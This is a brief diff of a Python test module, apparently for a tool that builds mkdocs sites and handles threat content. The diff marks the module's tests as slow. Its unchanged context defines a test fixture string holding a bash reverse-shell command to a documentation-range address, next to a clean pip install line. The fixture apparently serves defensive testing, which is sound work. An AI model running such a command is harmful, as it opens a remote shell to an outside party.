@@ -10,9 +10,13 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
+import pytest
 from bs4 import BeautifulSoup
 
 from tests.conftest import Site, make_site, mkdocs, threatpub
+
+# Every test here runs real builds, servers or a browser (-m 'not slow' skips them).
+pytestmark = pytest.mark.slow
 
 SHELL = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
 CLEAN_SNIPPET = "pip install --upgrade example-lib==2.4.1\n"
